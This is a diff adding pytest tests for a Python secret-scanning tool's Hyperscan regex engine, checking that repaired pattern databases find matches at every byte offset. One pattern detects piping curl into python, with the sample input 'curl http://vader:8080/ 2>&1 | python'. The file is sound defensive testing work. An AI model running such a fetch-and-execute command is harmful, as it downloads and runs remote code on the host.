@@ -1,0 +1,41 @@
+"""Matches that a release of Hyperscan misses, unless its databases are repaired."""
+
+from __future__ import annotations
+
+import pytest
+
+from git_secrets_py.engine.hyperscan_compiler import compile_filter
+from git_secrets_py.engine.vectorscan_repair import repaired
+
+hyperscan = pytest.importorskip("hyperscan")
+
+# With the fewest bytes between the pair and the literal.
+MATCHES = {
+    rb"""[=:]["'].{0,20}T0ken""": b'="T0ken',
+    rb"k\s[^;]*T0ken": b"k\nT0ken",
+    rb"\s+(?:=>|:).*T0ken": b" =>T0ken",
+    rb"curl[\x00-\xff]*\|\s*python": b"curl http://vader:8080/ 2>&1 | python",
+    # The end of the text takes the place of the literal.
+    rb"[=:]\s*['\"]": b"='",
+    rb"[ab][cd]\b": b"ac",
+}
+
+
+@pytest.mark.parametrize("together", [False, True])
+@pytest.mark.parametrize("source", MATCHES)
+def test_a_match_is_found_after_any_number_of_bytes(source: bytes, together: bool) -> None:
+    """It is missed only in texts of at least 16 bytes."""
+    sources = list(MATCHES) if together else [source]
+    database = compile_filter(hyperscan, sources, range(len(sources)))
+    number = sources.index(source)
+    for before in (*range(70), 100, 130):
+        for after in (0, 1, 40):
+            text = b"." * before + MATCHES[source] + b"." * after
+            assert number in dict(database.hits(text) or ()), text
+
+
+@pytest.mark.parametrize("source", [b"T0ken", rb"[0-9]{3}"])
+def test_a_database_without_the_fault_is_not_changed(source: bytes) -> None:
+    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
+    database.compile(expressions=[source])
+    assert repaired(hyperscan, database) is database
